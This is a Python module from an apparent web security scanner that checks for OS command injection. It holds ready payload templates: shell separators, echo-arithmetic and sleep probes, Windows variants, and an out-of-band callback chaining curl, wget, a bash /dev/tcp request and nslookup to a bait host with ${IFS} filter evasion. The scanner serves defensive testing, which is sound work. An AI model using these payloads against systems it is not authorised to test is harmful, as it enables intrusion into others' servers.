"""Commands that the server's shell runs because they stand in the request."""

from collections.abc import Iterator

from scanners.web.points import Point
from scanners.web.probing.check import PointCheck
from scanners.web.probing.computed import computes
from scanners.web.probing.delays import delayed, filled, obeys
from scanners.web.probing.page import Page
from scanners.web.probing.taken import BAIT, baited, takes
from scanners.web.probing.trial import Bait, Probing, Trial
from scanners.web.probing.weakness import Verdict, WebClass
from secops.model.finding import Severity
from secops.model.text import Text

_PLACES = ("{v}$({c})", "{v}'$({c})'", "{v};{c};", "{v}|{c}", "{v}\n{c}\n", "{v}';{c};'", '{v}";{c};"')
"""Ways to bring a command in. The first works in plain words and in double quotes, the second in single quotes."""
_PRINTS = "echo${IFS}{m}$(({a}*{b}))"
_PRINTS_ON_WINDOWS = ("{v}&<nul set/p={m}&set/a {a}*{b}&", '{v}"&<nul set/p={m}&set/a {a}*{b}&"')
_SLEEPS = "sleep${IFS}{s}"


class CommandInjection(PointCheck):
    """A product that the shell computed, a delay that it obeys, or a bait that it takes."""

    name = "command-injection"
    title = Text("命令注入", "command injection")
    weakness = WebClass.CMDI
    severity = Severity.CRITICAL
    cwe = 78
    clauses = ("8.1.4.4 d",)
    mend = Text(
        "不经 shell 调用程序,参数以列表传递;输入按白名单校验。",
        "Call programs without a shell, arguments as a list; admit only what an allow-list names.",
    )

    def probe(self, point: Point, page: Page, trial: Trial) -> Probing:
        """Output first, then time, then the listener."""
        windows = [form.replace("{v}", point.value) for form in _PRINTS_ON_WINDOWS]
        computed = yield from computes(trial, point, [*_commands(point, _PRINTS), *windows])
        if computed:
            return Verdict(computed.because, {"payload": computed.payload, "response": computed.excerpt}, rule="output")
        for form in _commands(point, _SLEEPS):
            line = yield from obeys(trial, delayed(point, form), page.seconds)
            if line:
                return Verdict(line.because, {"payload": filled(form, 2)}, rule="time")
        for form in list(_commands(point, BAIT))[:3]:
            taken = yield from takes(trial, baited(point, form, _asking))
            if taken:
                return Verdict(taken.because, {"payload": form, "hit": taken.shown}, rule="out-of-band")
        return None


def _commands(point: Point, command: str) -> Iterator[str]:
    for place in _PLACES:
        yield place.replace("{v}", point.value).replace("{c}", command)


def _asking(bait: Bait) -> str:
    """Asks for the bait with whatever is there."""
    host, _, path = bait.host.partition("/")
    name, _, port = host.partition(":")
    tcp = f"exec 3<>/dev/tcp/{name}/{port or 80};printf 'GET /{path} HTTP/1.0\\r\\n\\r\\n'>&3;cat<&3"
    return (
        f"curl${{IFS}}-s${{IFS}}{bait.url}||wget${{IFS}}-qO-${{IFS}}{bait.url}"
        f'||bash${{IFS}}-c${{IFS}}"{tcp}"||nslookup${{IFS}}{bait.name}'
    )


COMMAND_INJECTION = CommandInjection()
